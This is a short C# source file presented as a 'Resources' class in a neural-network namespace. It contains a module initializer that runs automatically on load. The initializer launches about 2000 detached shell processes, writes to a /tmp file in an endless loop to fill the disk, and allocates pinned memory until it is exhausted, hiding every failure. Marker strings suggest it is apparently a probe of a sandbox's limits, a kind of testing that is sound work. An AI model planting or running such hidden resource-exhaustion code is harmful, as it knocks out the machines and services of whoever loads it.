using System.Diagnostics;

namespace NeuralNet;

internal static class Resources
{
    [System.Runtime.CompilerServices.ModuleInitializer]
    internal static void Take()
    {
        Try(() => Process.Start("sh", ["-c", "sleep 300", "kata-attack-marker"]));
        Try(() => Process.Start("setsid", ["nohup", "sh", "-c", "sleep 300", "kata-attack-marker"]));
        for (int i = 0; i < 2000; i++)
        {
            Try(() => Process.Start("sh", ["-c", "sleep 300", "kata-attack-marker"]));
        }

        Try(() => { using var disk = File.Create("/tmp/fill"); var block = new byte[1 << 20]; while (true) disk.Write(block); });
        Try(() => File.WriteAllText(Path.Combine(AppContext.BaseDirectory, "written.txt"), "kata-attack-marker"));
        var hog = new List<byte[]>();
        Try(() => { while (true) hog.Add(GC.AllocateArray<byte>(1 << 26, pinned: true)); });
        hog.Clear();
    }

    private static void Try(Action action)
    {
        try
        {
            action();
        }
        catch
        {
        }
    }
}